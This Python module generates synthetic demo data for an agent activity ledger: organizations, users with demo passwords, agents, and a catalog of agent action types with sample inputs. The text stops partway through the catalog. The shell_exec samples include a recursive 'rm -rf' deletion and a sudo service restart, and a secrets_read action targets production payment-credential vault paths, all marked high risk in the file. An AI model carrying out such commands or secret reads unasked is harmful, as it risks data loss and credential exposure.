"""Deterministic, realistic demo data for the Agent Activity Ledger (SPEC sections 2 and 8).

Pure data generation: no database access. `python -m ledger_core demo` loads what this
module produces through the normal ingest path.

The data set tells a story that the Stats page can show:

* 4 organizations: `acme` (Enterprise tier, every action carries compliance metadata),
  `globex`, `initech` and `umbrella` (standard tier, compliance is null; umbrella
  onboards about six months into the period).
* 20 users of the three roles, 34 agents (`prod-agent-3` *and* `prod-agent-30`,
  `staging-agent-1`, `billing-bot`...), 67 action types, each with its own cost,
  duration, error-rate and risk profile (LLM calls cost far more than `database_query`;
  `shell_exec` is high risk and often blocked; `payment_transfer` is critical).
* 18 months of activity up to and including `end`: busier during UTC working hours,
  quieter at weekends and over the year-end holidays, growing over time.
* An incident about 8 weeks before `end` (`incident_window`): 3 days where
  `database_query`, `http_request` and other network-bound actions fail about 10x as
  often, mostly with "connection timeout after 30000ms" and "HTTP 503 from api.example.com".
* A cost spike about 4 months before `end` (`cost_spike_window`): for a week the runaway
  `prod-agent-30` (acme) loops on large-context LLM calls and LLM spend jumps.
* Outcomes roughly 85 % success, 10 % error, 5 % blocked. A few error messages and
  blocked reasons contain commas, double quotes, newlines, non-ASCII text, or start with
  `=`, `+`, `-`, `@` or a tab, so that CSV export hardening is exercised.

Everything is derived from `seed`: the same `(seed, actions, end)` gives byte-identical
records (ids included), whatever `batch_size` is. Only when `end` is today (the default)
are timestamps also clamped to the current time, so that nothing lies in the future.
"""
from __future__ import annotations

import datetime as _dt
import gc
import math
from dataclasses import dataclass
from decimal import Decimal
from typing import Any, Iterator

import numpy as np

__all__ = [
    "DEMO_PASSWORDS",
    "DemoAgent",
    "DemoOrg",
    "DemoUser",
    "cost_spike_window",
    "demo_action_names",
    "demo_agents",
    "demo_orgs",
    "demo_period",
    "demo_users",
    "generate_actions",
    "incident_window",
]

# --- organizations, users, agents -------------------------------------------------------


@dataclass(frozen=True)
class DemoOrg:
    id: str
    name: str
    tier: str  # "enterprise" or "standard"


@dataclass(frozen=True)
class DemoUser:
    id: str
    display_name: str
    email: str
    org_id: str
    role: str  # "user", "org_admin" or "superuser"
    password: str


@dataclass(frozen=True)
class DemoAgent:
    id: str
    org_id: str
    environment: str  # "prod" or "staging"
    users: tuple[str, ...]  # the users (of org_id) who run it


_ORGS: tuple[DemoOrg, ...] = (
    DemoOrg("acme", "Acme Corp", "enterprise"),
    DemoOrg("globex", "Globex Corporation", "standard"),
    DemoOrg("initech", "Initech", "standard"),
    DemoOrg("umbrella", "Umbrella Health", "standard"),
)
_ORG_INDEX = {org.id: i for i, org in enumerate(_ORGS)}
_ENTERPRISE = _ORG_INDEX["acme"]

# (id, display name, org, role)
_USERS: tuple[tuple[str, str, str, str], ...] = (
    ("alice", "Alice Anderson", "acme", "user"),
    ("bob", "Bob Brown", "acme", "org_admin"),
    ("carol", "Carol Chen", "acme", "user"),
    ("dave", "Dave Dubois", "acme", "user"),
    ("erin", "Erin Eriksson", "acme", "org_admin"),
    ("frank", "Frank Fischer", "acme", "user"),
    ("root", "Platform Root", "acme", "superuser"),
    ("grace", "Grace Green", "globex", "org_admin"),
    ("heidi", "Heidi Hoffmann", "globex", "user"),
    ("ivan", "Ivan Ivanov", "globex", "user"),
    ("judy", "Judy Jones", "globex", "user"),
    ("niaj", "Niaj Nakamura", "globex", "user"),
    ("oscar", "Oscar Okafor", "initech", "org_admin"),
    ("peggy", "Peggy Park", "initech", "user"),
    ("trent", "Trent Turner", "initech", "user"),
    ("olivia", "Olivia Ortiz", "initech", "superuser"),
    ("victor", "Victor Vargas", "umbrella", "org_admin"),
    ("walter", "Walter White", "umbrella", "user"),
    ("wendy", "Wendy Wu", "umbrella", "user"),
    ("mallory", "Mallory Moore", "umbrella", "user"),
)

DEMO_PASSWORDS: dict[str, str] = {user_id: f"{user_id}-demo-pass" for user_id, *_ in _USERS}
"""Username -> demo password (the README lists them). Demo only: never use in production."""

_USER_INDEX = {u[0]: i for i, u in enumerate(_USERS)}

# (id, org, profile, base weight, active from (fraction of the period), {user: weight})
_AGENTS: tuple[tuple[str, str, str, float, float, dict[str, float]], ...] = (
    # acme
    ("prod-agent-1", "acme", "assistant", 1.6, 0.00, {"alice": 3, "carol": 2}),
    ("prod-agent-2", "acme", "data", 1.4, 0.00, {"carol": 2, "dave": 2}),
    ("prod-agent-3", "acme", "devops", 1.3, 0.00, {"alice": 2, "dave": 1, "frank": 2}),
    ("prod-agent-4", "acme", "support", 1.0, 0.05, {"frank": 2, "erin": 1}),
    ("prod-agent-5", "acme", "research", 0.9, 0.20, {"dave": 2, "alice": 1}),
    ("prod-agent-30", "acme", "codegen", 0.6, 0.45, {"carol": 2, "frank": 1}),
    ("staging-agent-1", "acme", "devops", 0.4, 0.00, {"alice": 1, "frank": 1}),
    ("staging-agent-2", "acme", "assistant", 0.3, 0.30, {"dave": 1}),
    ("billing-bot", "acme", "finance", 0.9, 0.00, {"bob": 3, "erin": 1}),
    ("compliance-scanner", "acme", "security", 0.5, 0.10, {"root": 1, "erin": 1}),
    ("support-bot", "acme", "support", 1.1, 0.00, {"carol": 1, "alice": 1}),
    ("code-reviewer", "acme", "codegen", 0.7, 0.60, {"frank": 2, "dave": 1}),
    # globex
    ("prod-agent-6", "globex", "assistant", 1.2, 0.00, {"heidi": 1}),
    ("prod-agent-7", "globex", "data", 1.0, 0.00, {"ivan": 1}),
    ("prod-agent-8", "globex", "research", 0.8, 0.15, {"judy": 1, "niaj": 1}),
    ("prod-agent-13", "globex", "devops", 0.7, 0.25, {"grace": 1, "ivan": 2}),
    ("staging-agent-3", "globex", "assistant", 0.3, 0.25, {"niaj": 1}),
    ("sales-copilot", "globex", "sales", 1.0, 0.00, {"judy": 2, "heidi": 1}),
    ("data-pipeline", "globex", "data", 0.9, 0.40, {"ivan": 2, "grace": 1}),
    ("research-assistant", "globex", "research", 0.6, 0.55, {"heidi": 1, "niaj": 1}),
    # initech
    ("prod-agent-9", "initech", "finance", 0.8, 0.00, {"peggy": 1}),
    ("prod-agent-10", "initech", "data", 0.9, 0.00, {"trent": 1}),
    ("prod-agent-11", "initech", "support", 0.7, 0.10, {"peggy": 1, "trent": 1}),
    ("staging-agent-4", "initech", "devops", 0.3, 0.20, {"trent": 1}),
    ("report-generator", "initech", "reporting", 0.7, 0.00, {"oscar": 1, "peggy": 2}),
    ("invoice-bot", "initech", "finance", 0.6, 0.30, {"oscar": 1}),
    ("devops-agent", "initech", "devops", 0.6, 0.00, {"olivia": 1, "trent": 2}),
    # umbrella (onboarded about a third into the period)
    ("prod-agent-12", "umbrella", "health", 1.2, 0.33, {"walter": 1}),
    ("prod-agent-14", "umbrella", "assistant", 0.8, 0.33, {"wendy": 1}),
    ("prod-agent-15", "umbrella", "devops", 0.6, 0.40, {"mallory": 1}),
    ("staging-agent-5", "umbrella", "health", 0.3, 0.70, {"walter": 1}),
    ("triage-assistant", "umbrella", "health", 0.9, 0.45, {"wendy": 2, "victor": 1}),
    ("lab-data-agent", "umbrella", "health", 0.7, 0.50, {"walter": 1, "victor": 1}),
    ("security-auditor", "umbrella", "security", 0.4, 0.50, {"victor": 1}),
)
_AGENT_INDEX = {a[0]: i for i, a in enumerate(_AGENTS)}
_RUNAWAY_AGENT = _AGENT_INDEX["prod-agent-30"]
# Error and block multipliers of particular agents (staging is flakier; prod-agent-3 and
# mallory's prod-agent-15 keep trying things the policies refuse).
_AGENT_ERR_MULT = {"staging-agent-1": 1.8, "staging-agent-2": 1.8, "staging-agent-3": 1.8,
                   "staging-agent-4": 1.8, "staging-agent-5": 1.8}
_AGENT_BLOCK_MULT = {"prod-agent-3": 1.6, "prod-agent-15": 2.5}
_REGIONS = ("us-east-1", "eu-west-1", "us-west-2", "ap-northeast-1")
_AGENT_VERSIONS = ("1.0.3", "1.1.0", "1.2.2", "1.3.0", "1.4.1", "2.0.0", "2.1.0", "2.1.4")


def demo_orgs() -> list[DemoOrg]:
    """The four demo organizations; `acme` is the Enterprise tier one."""
    return list(_ORGS)


def demo_users() -> list[DemoUser]:
    """The 20 demo users with their demo passwords (see `DEMO_PASSWORDS`)."""
    return [
        DemoUser(uid, name, f"{uid}@{org}.example.com", org, role, DEMO_PASSWORDS[uid])
        for uid, name, org, role in _USERS
    ]


def demo_agents() -> list[DemoAgent]:
    """The 34 demo agents, each belonging to one organization."""
    return [
        DemoAgent(aid, org, "staging" if aid.startswith("staging-") else "prod", tuple(users))
        for aid, org, _profile, _w, _start, users in _AGENTS
    ]


# --- action catalog -----------------------------------------------------------------------

_RISKS = ("low", "medium", "high", "critical")
_OUTCOMES = ("success", "error", "blocked")
_CATEGORIES = ("llm", "data", "web", "comms", "files", "devops", "finance", "crm",
               "security", "health", "browser")


@dataclass(frozen=True)
class _Action:
    name: str
    category: str
    cost: float  # median USD (non-LLM) or a per-call surcharge (LLM)
    cost_sigma: float
    duration: float  # median ms
    duration_sigma: float
    err: float  # base error rate (calibrated below)
    block: float  # base block rate (calibrated below)
    risk: str
    bump: float  # probability of being one risk level higher
    inputs: tuple[dict[str, Any], ...]
    output: dict[str, Any]
    output_key: str | None = None  # numeric output field drawn per action
    output_scale: float = 1.0
    # LLM: (model, USD per 1k prompt tokens, USD per 1k completion tokens,
    #       median prompt tokens, median completion tokens, ms per completion token)
    llm: tuple[str, float, float, int, int, float] | None = None


def _a(name: str, category: str, cost: float, cost_sigma: float, duration: float,
       duration_sigma: float, err: float, block: float, risk: str, bump: float,
       inputs: list[dict[str, Any]], output: dict[str, Any], key: str | None = None,
       scale: float = 1.0, llm: tuple[str, float, float, int, int, float] | None = None) -> _Action:
    return _Action(name, category, cost, cost_sigma, duration, duration_sigma, err, block, risk,
                   bump, tuple(inputs), output, key, scale, llm)


_CATALOG: tuple[_Action, ...] = (
    # LLM calls: cost from tokens
    _a("llm_completion", "llm", 0.0, 0.0, 450, 0.5, 0.08, 0.03, "medium", 0.05, [
        {"model": "gpt-4o-mini", "prompt": "Summarize the following support ticket in one sentence.",
         "max_tokens": 256, "temperature": 0.2},
        {"model": "gpt-4o-mini", "prompt": "Extract the invoice number, due date and total from the text below.",
         "max_tokens": 128, "temperature": 0},
        {"model": "gpt-4o-mini", "prompt": "Rédige une réponse polie au client concernant sa commande n° 4821.",
         "max_tokens": 400, "temperature": 0.7},
    ], {"finish_reason": "stop"}, "completion_chars", 900,
        llm=("gpt-4o-mini", 0.00015, 0.0006, 800, 250, 8)),
    _a("llm_chat_gpt4", "llm", 0.0, 0.0, 900, 0.5, 0.09, 0.04, "medium", 0.1, [
        {"model": "gpt-4-turbo", "system": "You are a senior site reliability engineer.",
         "message": "Why does the nightly ETL job fail on Mondays?", "max_tokens": 1024},
        {"model": "gpt-4-turbo", "system": "You are a careful financial analyst.",
         "message": "Compare Q3 and Q2 revenue by region, flag anomalies.", "max_tokens": 2048},
        {"model": "gpt-4-turbo", "system": "You are a coding agent.",
         "message": "The test suite fails with \"KeyError: 'customer_id'\"; find the cause.", "max_tokens": 2048},
    ], {"finish_reason": "stop"}, "completion_chars", 1800,
        llm=("gpt-4-turbo", 0.01, 0.03, 1500, 400, 22)),
    _a("llm_chat_claude", "llm", 0.0, 0.0, 800, 0.5, 0.08, 0.04, "medium", 0.08, [
        {"model": "claude-3-5-sonnet", "system": "You are a helpful support assistant.",
         "message": "Draft a reply to a customer whose refund is delayed.", "max_tokens": 1024},
        {"model": "claude-3-5-sonnet", "system": "You are a research assistant.",
         "message": "What changed in the EU AI Act final text for general-purpose models?", "max_tokens": 2048},
        {"model": "claude-3-5-sonnet", "system": "You are a meeting assistant.",
         "message": "Fasse das Protokoll der Sitzung vom Dienstag zusammen.", "max_tokens": 1024},
    ], {"finish_reason": "stop"}, "completion_chars", 1600,
        llm=("claude-3-5-sonnet", 0.003, 0.015, 2000, 500, 15)),
    _a("llm_embedding", "llm", 0.0, 0.0, 120, 0.5, 0.04, 0.00, "low", 0.0, [
        {"model": "text-embedding-3-small", "source": "kb_articles", "texts": 32},
        {"model": "text-embedding-3-small", "source": "support_tickets", "texts": 64},
        {"model": "text-embedding-3-small", "source": "contracts", "texts": 8},
    ], {"dimensions": 1536}, "vectors", 30,
        llm=("text-embedding-3-small", 0.00002, 0.0, 2500, 1, 0)),
    _a("llm_summarize", "llm", 0.0, 0.0, 700, 0.5, 0.08, 0.02, "medium", 0.05, [
        {"model": "claude-3-haiku", "document": "s3://acme-docs/contracts/MSA-2024-017.pdf", "style": "bullet points"},
        {"model": "claude-3-haiku", "document": "https://www.example.org/reports/annual-report-2024.html",
         "style": "executive summary"},
        {"model": "claude-3-haiku", "document": "/srv/agent/workspace/東京オフィス/議事録.txt",
         "style": "one paragraph"},
    ], {"finish_reason": "stop"}, "summary_chars", 1200,
        llm=("claude-3-haiku", 0.00025, 0.00125, 3000, 300, 6)),
    _a("llm_classify", "llm", 0.0, 0.0, 250, 0.4, 0.05, 0.00, "low", 0.02, [
        {"model": "gpt-4o-mini", "labels": "billing,technical,account,other",
         "text": "I was charged twice for my subscription"},
        {"model": "gpt-4o-mini", "labels": "spam,phishing,legitimate",
         "text": "Urgent: verify your account at http://secure-login.example.net"},
        {"model": "gpt-4o-mini", "labels": "positive,neutral,negative",
         "text": "The new dashboard is great, but exports are slow."},
    ], {"label": "billing"}, "confidence_pct", 85,
        llm=("gpt-4o-mini", 0.00015, 0.0006, 400, 10, 8)),
    _a("llm_code_generation", "llm", 0.0, 0.0, 1500, 0.5, 0.12, 0.04, "medium", 0.15, [
        {"model": "gpt-4o", "task": "Add retry with exponential backoff to fetch_orders()", "language": "python",
         "repo": "acme/orders-service"},
        {"model": "gpt-4o", "task": "Write a SQL migration adding refund_reason to orders", "language": "sql",
         "repo": "acme/orders-service"},
        {"model": "gpt-4o", "task": "Fix the failing test test_export_csv_quotes", "language": "python",
         "repo": "acme/ledger"},
    ], {"finish_reason": "stop"}, "lines_generated", 60,
        llm=("gpt-4o", 0.0025, 0.01, 2500, 800, 12)),
    _a("llm_rerank", "llm", 0.0, 0.0, 180, 0.4, 0.04, 0.00, "low", 0.0, [
        {"model": "rerank-english-v3.0", "query": "refund policy for annual plans", "documents": 25},
        {"model": "rerank-english-v3.0", "query": "SOC2 evidence for access reviews", "documents": 50},
    ], {"top_index": 0}, "top_score_pct", 80,
        llm=("rerank-english-v3.0", 0.002, 0.0, 1000, 1, 0)),
    _a("llm_vision", "llm", 0.0, 0.0, 1800, 0.5, 0.10, 0.02, "medium", 0.1, [
        {"model": "gpt-4o", "image": "s3://umbrella-scans/intake/2024/form-118.png",
         "prompt": "Transcribe the handwritten fields"},
        {"model": "gpt-4o", "image": "s3://acme-receipts/2024-10/receipt-0042.jpg",
         "prompt": "Extract merchant, date and total"},
    ], {"finish_reason": "stop"}, "completion_chars", 600,
        llm=("gpt-4o", 0.0025, 0.01, 1200, 200, 12)),
    _a("llm_moderation", "llm", 0.0, 0.0, 90, 0.3, 0.02, 0.00, "low", 0.0, [
        {"model": "omni-moderation-latest", "text_length": 1834},
        {"model": "omni-moderation-latest", "text_length": 240},
    ], {"flagged": False}, None, 1,
        llm=("omni-moderation-latest", 0.0, 0.0, 400, 1, 0)),
    # data
    _a("database_query", "data", 0.00002, 0.6, 35, 0.9, 0.07, 0.01, "low", 0.08, [
        {"database": "orders",
         "query": "SELECT id, status, total FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT 50"},
        {"database": "analytics",
         "query": "SELECT date_trunc('day', created_at) AS day, count(*) FROM events GROUP BY 1"},
        {"database": "crm", "query": "SELECT * FROM contacts WHERE email ILIKE '%@globex.example.com'"},
        {"database": "inventory", "query": "SELECT sku, qty FROM stock WHERE warehouse = 'Tōkyō-2'"},
    ], {}, "rows", 40),
    _a("database_write", "data", 0.00004, 0.5, 45, 0.8, 0.08, 0.03, "medium", 0.1, [
        {"database": "orders", "statement": "UPDATE orders SET status = 'shipped' WHERE id = $1"},
        {"database": "audit", "statement": "INSERT INTO audit_log (actor, action) VALUES ($1, $2)"},
    ], {}, "rows_affected", 2),
    _a("database_migration", "data", 0.0005, 0.5, 4000, 0.8, 0.20, 0.25, "high", 0.2, [
        {"database": "orders", "migration": "0042_add_refund_reason", "direction": "up"},
        {"database": "crm", "migration": "0107_drop_legacy_columns", "direction": "up"},
    ], {}, "statements", 5),
    _a("cache_get", "data", 0.000001, 0.3, 2, 0.6, 0.02, 0.00, "low", 0.0, [
        {"store": "redis", "key": "session:8f2c1d"},
        {"store": "redis", "key": "pricing:eu:v3"},
    ], {"hit": True}, "bytes", 900),
    _a("cache_set", "data", 0.000001, 0.3, 3, 0.6, 0.02, 0.00, "low", 0.0, [
        {"store": "redis", "key": "pricing:eu:v3", "ttl_s": 3600},
        {"store": "redis", "key": "report:weekly:2024-W41", "ttl_s": 86400},
    ], {"stored": True}, "bytes", 1500),
    _a("vector_search", "data", 0.00008, 0.4, 60, 0.6, 0.05, 0.00, "low", 0.02, [
        {"index": "kb-articles", "query": "how to reset 2FA", "top_k": 8},
        {"index": "contracts", "query": "termination for convenience clause", "top_k": 5},
    ], {}, "matches", 6),
    _a("vector_upsert", "data", 0.0002, 0.5, 150, 0.6, 0.06, 0.00, "medium", 0.0, [
        {"index": "kb-articles", "vectors": 128},
        {"index": "support-tickets", "vectors": 512},
    ], {}, "upserted", 150),
    _a("s3_get_object", "data", 0.0004, 0.3, 80, 0.8, 0.06, 0.02, "medium", 0.05, [
        {"bucket": "acme-reports", "key": "2024/Q3, final.csv"},
        {"bucket": "globex-data-lake", "key": "raw/events/2024-10-01/part-0001.parquet"},
    ], {}, "bytes", 250_000),
    _a("s3_put_object", "data", 0.005, 0.3, 120, 0.8, 0.06, 0.04, "medium", 0.1, [
        {"bucket": "acme-reports", "key": "2024/weekly-summary.pdf", "content_type": "application/pdf"},
        {"bucket": "initech-invoices", "key": "2024/INV-10293.pdf", "content_type": "application/pdf"},
    ], {"etag": "\"9b2cf535f27731c974343645a3985328\""}, "bytes", 120_000),
    _a("bigquery_job", "data", 0.03, 1.2, 6000, 0.9, 0.10, 0.02, "medium", 0.05, [
        {"project": "globex-analytics", "query": "SELECT region, SUM(revenue) FROM sales.orders_2024 GROUP BY region",
         "dry_run": False},
        {"project": "initech-reporting", "query": "SELECT * FROM finance.ledger WHERE period = '2024-09'",
         "dry_run": False},
    ], {}, "bytes_processed", 4_000_000_000),
    _a("csv_parse", "data", 0.00001, 0.4, 40, 0.9, 0.10, 0.00, "low", 0.0, [
        {"path": "/srv/agent/inbox/customers.csv", "delimiter": ","},
        {"path": "/srv/agent/inbox/Bestellungen_März.csv", "delimiter": ";"},
    ], {}, "rows", 1200),
    _a("pdf_extract", "data", 0.001, 0.4, 900, 0.7, 0.12, 0.00, "medium", 0.0, [
        {"path": "s3://initech-invoices/2024/INV-10293.pdf", "pages": "all"},
        {"path": "s3://acme-docs/contracts/MSA-2024-017.pdf", "pages": "1-5"},
    ], {}, "pages", 6),
    _a("ocr_document", "data", 0.0015, 0.3, 1500, 0.6, 0.12, 0.00, "medium", 0.0, [
        {"image": "scan_0031.tiff", "language": "deu"},
        {"image": "fax_2024-10-02_0815.png", "language": "eng"},
    ], {}, "characters", 2500),
    _a("data_export", "data", 0.002, 0.8, 3000, 0.9, 0.08, 0.30, "high", 0.2, [
        {"dataset": "customers", "format": "csv", "destination": "s3://globex-exports/customers.csv",
         "row_limit": 50000},
        {"dataset": "orders_2024", "format": "parquet", "destination": "gs://partner-share/orders/",
         "row_limit": 1000000},
    ], {}, "rows", 8000),
    # web
    _a("http_request", "web", 0.00005, 0.5, 220, 0.9, 0.12, 0.04, "medium", 0.05, [
        {"method": "GET", "url": "https://api.example.com/v2/orders?status=open"},
        {"method": "POST", "url": "https://hooks.partner.example/ingest"},
        {"method": "GET", "url": "https://status.example.net/health"},
    ], {"status": 200}, "bytes", 8000),
    _a("web_search", "web", 0.005, 0.1, 600, 0.5, 0.06, 0.02, "low", 0.0, [
        {"engine": "bing", "query": "EU AI Act obligations for general-purpose AI"},
        {"engine": "bing", "query": "東京 weather tomorrow"},
        {"engine": "bing", "query": "\"net 30\" payment terms definition"},
    ], {}, "results", 10),
    _a("web_scrape", "web", 0.001, 0.5, 2500, 0.8, 0.25, 0.10, "medium", 0.05, [
        {"url": "https://www.competitor.example/pricing", "selector": "table.prices"},
        {"url": "https://news.example.org/tech", "selector": "article h2"},
    ], {}, "bytes", 60_000),
    _a("graphql_query", "web", 0.00005, 0.4, 300, 0.7, 0.08, 0.01, "low", 0.05, [
        {"endpoint": "https://api.github.com/graphql", "operation": "ListPullRequests"},
        {"endpoint": "https://api.shop.example/graphql", "operation": "ProductsByCategory"},
    ], {}, "nodes", 25),
    _a("webhook_dispatch", "web", 0.00002, 0.3, 150, 0.7, 0.08, 0.01, "medium", 0.0, [
        {"url": "https://hooks.slack.com/services/T0000/B0000/XXXX", "event": "lab_result.ready"},
        {"url": "https://hooks.partner.example/events", "event": "order.updated"},
    ], {"status": 204}),
    # comms
    _a("send_email", "comms", 0.0001, 0.2, 350, 0.5, 0.06, 0.08, "medium", 0.1, [
        {"to": "customer@example.com", "subject": "Your order #4821 has shipped", "template": "order_shipped"},
        {"to": "finance@initech.example.com", "subject": "Invoice INV-10293, due 2024-11-30", "attachments": 1},
        {"to": "müller@beispiel.de", "subject": "Terminbestätigung für Dienstag"},
    ], {"queued": True}, "size_bytes", 14_000),
    _a("send_slack_message", "comms", 0.0, 0.0, 180, 0.5, 0.04, 0.04, "low", 0.1, [
        {"channel": "#ops-alerts", "text": "Nightly ETL finished: 1,204,311 rows"},
        {"channel": "#finance", "text": "Invoice run complete, 3 \"needs review\""},
    ], {"ok": True}),
    _a("send_sms", "comms", 0.0079, 0.05, 400, 0.4, 0.08, 0.06, "medium", 0.1, [
        {"to": "+15550100199", "body": "Your verification code is 482913"},
        {"to": "+4915550123456", "body": "Ihr Termin ist morgen um 09:30 Uhr."},
    ], {}, "segments", 1),
    _a("create_calendar_event", "comms", 0.0, 0.0, 250, 0.5, 0.04, 0.00, "low", 0.0, [
        {"title": "Q4 review, \"draft\" numbers", "attendees": 4, "start": "2024-11-05T15:00:00Z"},
        {"title": "Customer onboarding: Umbrella Health", "attendees": 6, "start": "2024-10-08T09:00:00Z"},
    ], {"status": "confirmed"}),
    _a("social_post", "comms", 0.0, 0.0, 700, 0.5, 0.06, 0.35, "high", 0.1, [
        {"network": "linkedin", "text": "We're hiring ML engineers! 🚀"},
        {"network": "x", "text": "Scheduled maintenance tonight 22:00–23:00 UTC."},
    ], {"status": "published"}),
    # files
    _a("file_read", "files", 0.000002, 0.3, 8, 1.0, 0.06, 0.03, "low", 0.05, [
        {"path": "/srv/agent/workspace/config.yaml"},
        {"path": "/srv/agent/workspace/reports/Q3, final.csv"},
        {"path": "/srv/agent/workspace/東京オフィス/報告書.pdf"},
        {"path": "/srv/agent/workspace/README.md"},
    ], {}, "bytes", 20_000),
    _a("file_write", "files", 0.000004, 0.3, 15, 1.0, 0.06, 0.06, "medium", 0.05, [
        {"path": "/srv/agent/workspace/out/summary.md", "mode": "w"},
        {"path": "/srv/agent/workspace/out/results.json", "mode": "w"},
    ], {}, "bytes_written", 8_000),
    _a("file_delete", "files", 0.0, 0.0, 5, 0.8, 0.06, 0.30, "high", 0.1, [
        {"path": "/srv/agent/workspace/tmp/cache.db"},
        {"path": "/srv/agent/workspace/out/old-report.pdf"},
    ], {"deleted": True}),
    _a("directory_list", "files", 0.0, 0.0, 4, 0.8, 0.02, 0.02, "low", 0.0, [
        {"path": "/srv/agent/workspace", "recursive": False},
        {"path": "/srv/agent/workspace/src", "recursive": True},
    ], {}, "entries", 40),
    # devops
    _a("shell_exec", "devops", 0.00001, 0.5, 800, 1.1, 0.14, 0.28, "high", 0.3, [
        {"command": "ls -la /srv/agent/workspace"},
        {"command": "grep -rn \"TODO\" src/ | wc -l"},
        {"command": "curl -s https://status.example.net/health"},
        {"command": "rm -rf /tmp/build-*"},
        {"command": "sudo systemctl restart nginx"},
        {"command": "psql -c 'VACUUM ANALYZE orders;'"},
    ], {"exit_code": 0}, "stdout_bytes", 2000),
    _a("python_exec", "devops", 0.00003, 0.5, 1200, 1.0, 0.20, 0.08, "high", 0.1, [
        {"code": "import pandas as pd\ndf = pd.read_csv('orders.csv')\nprint(df.total.sum())", "timeout_s": 60},
        {"code": "print(sum(range(10**6)))", "timeout_s": 10},
    ], {"exit_code": 0}, "stdout_bytes", 500),
    _a("git_clone", "devops", 0.0, 0.0, 3500, 0.7, 0.08, 0.02, "medium", 0.0, [
        {"repo": "git@github.com:acme/orders-service.git", "branch": "main"},
        {"repo": "git@github.com:globex/data-pipelines.git", "branch": "develop"},
    ], {}, "files", 800),
    _a("git_commit", "devops", 0.0, 0.0, 120, 0.5, 0.05, 0.02, "medium", 0.0, [
        {"repo": "acme/orders-service", "message": "fix: handle naïve datetimes in export"},
        {"repo": "acme/ledger", "message": "chore: bump dependencies"},
    ], {}, "files_changed", 3),
    _a("git_push", "devops", 0.0, 0.0, 1500, 0.5, 0.10, 0.15, "high", 0.1, [
        {"repo": "acme/orders-service", "branch": "agent/fix-1287", "force": False},
        {"repo": "acme/orders-service", "branch": "main", "force": True},
    ], {"pushed": True}),
    _a("docker_build", "devops", 0.004, 0.5, 90_000, 0.6, 0.20, 0.02, "medium", 0.1, [
        {"context": ".", "tag": "registry.acme.example.com/orders:1.42.0"},
        {"context": "services/api", "tag": "registry.globex.example.com/api:2024.10.3"},
    ], {}, "image_mb", 350),
    _a("k8s_deploy", "devops", 0.002, 0.4, 45_000, 0.6, 0.12, 0.18, "high", 0.35, [
        {"cluster": "prod-eu-west-1", "namespace": "orders", "image": "registry.acme.example.com/orders:1.42.0",
         "replicas": 3},
        {"cluster": "staging-us-east-1", "namespace": "api", "image": "registry.globex.example.com/api:2024.10.3",
         "replicas": 2},
    ], {"rollout": "complete"}),
    _a("terraform_apply", "devops", 0.003, 0.4, 120_000, 0.6, 0.16, 0.35, "critical", 0.0, [
        {"workspace": "prod", "plan": "plan-2024-10-03.tfplan", "auto_approve": False},
        {"workspace": "staging", "plan": "plan-network.tfplan", "auto_approve": True},
    ], {}, "resources_changed", 4),
    _a("ci_trigger", "devops", 0.0, 0.0, 400, 0.5, 0.18, 0.00, "medium", 0.0, [
        {"pipeline": "orders-service/main", "ref": "refs/heads/main"},
        {"pipeline": "data-pipelines/nightly", "ref": "refs/tags/v3.2.0"},
    ], {}, "build_id", 40_000),
    # finance
    _a("payment_transfer", "finance", 0.02, 0.3, 1200, 0.5, 0.06, 0.20, "critical", 0.0, [
        {"amount": "1250.00", "currency": "USD", "beneficiary": "Wayne Enterprises, Inc.", "reference": "INV-10293"},
        {"amount": "980.50", "currency": "EUR", "beneficiary": "Müller & Söhne GmbH", "reference": "RE-2024-118"},
        {"amount": "12500.00", "currency": "USD", "beneficiary": "Cyberdyne Systems", "reference": "PO 7781"},
    ], {"status": "submitted"}),
    _a("invoice_create", "finance", 0.002, 0.3, 600, 0.5, 0.06, 0.04, "medium", 0.1, [
        {"customer": "Globex Corporation", "amount": "4200.00", "currency": "USD", "due_days": 30},
        {"customer": "Initech", "amount": "315.75", "currency": "USD", "due_days": 14},
    ], {"status": "draft"}, "line_items", 4),
    _a("refund_issue", "finance", 0.01, 0.3, 900, 0.5, 0.08, 0.20, "high", 0.2, [
        {"charge": "ch_3NqLmD2eZvKYlo2C", "amount": "49.00", "reason": "duplicate"},
        {"charge": "ch_3NqLnE2eZvKYlo2D", "amount": "1200.00", "reason": "requested_by_customer"},
    ], {"status": "pending"}),
    _a("ledger_reconcile", "finance", 0.001, 0.4, 5000, 0.7, 0.10, 0.00, "medium", 0.05, [
        {"account": "1200-AR", "period": "2024-09"},
        {"account": "2100-AP", "period": "2024-10"},
    ], {"unmatched": 3}, "matched", 400),
    _a("currency_convert", "finance", 0.0001, 0.2, 90, 0.5, 0.04, 0.00, "low", 0.0, [
        {"from": "EUR", "to": "USD", "amount": "100.00"},
        {"from": "JPY", "to": "USD", "amount": "250000"},
    ], {"rate": "1.0871"}),
    # crm / support
    _a("ticket_create", "crm", 0.0, 0.0, 300, 0.5, 0.06, 0.00, "medium", 0.0, [
        {"system": "zendesk", "subject": "Customer cannot log in, error \"invalid token\"", "priority": "high"},
        {"system": "zendesk", "subject": "Feature request: export to XLSX", "priority": "low"},
    ], {}, "ticket_id", 50_000),
    _a("ticket_update", "crm", 0.0, 0.0, 250, 0.5, 0.05, 0.00, "low", 0.05, [
        {"system": "zendesk", "ticket_id": 48213, "status": "pending", "comment": "Asked customer for a HAR file"},
        {"system": "zendesk", "ticket_id": 48877, "status": "solved", "comment": "Refund issued, closing."},
    ], {"updated": True}),
    _a("crm_lookup", "crm", 0.00005, 0.3, 200, 0.5, 0.06, 0.02, "low", 0.05, [
        {"system": "salesforce", "email": "jane.doe@example.com"},
        {"system": "salesforce", "account": "Globex Corporation"},
    ], {}, "records", 3),
    _a("crm_update", "crm", 0.00005, 0.3, 300, 0.5, 0.06, 0.05, "medium", 0.05, [
        {"system": "salesforce", "record": "0035g00000XyZ12", "field": "notes",
         "value": "Prefers contact after 14:00 CET"},
        {"system": "salesforce", "record": "0035g00000XyZ99", "field": "stage", "value": "Closed Won"},
    ], {"updated": True}),
    _a("kb_search", "crm", 0.00005, 0.3, 120, 0.5, 0.04, 0.00, "low", 0.0, [
        {"query": "reset 2FA", "top_k": 5},
        {"query": "invoice shows wrong VAT number", "top_k": 5},
    ], {}, "results", 5),
    # security
    _a("secrets_read", "security", 0.00003, 0.3, 40, 0.5, 0.05, 0.35, "high", 0.3, [
        {"vault": "prod", "path": "secret/data/payments/stripe"},
        {"vault": "staging", "path": "secret/data/db/orders"},
    ], {}, "version", 4),
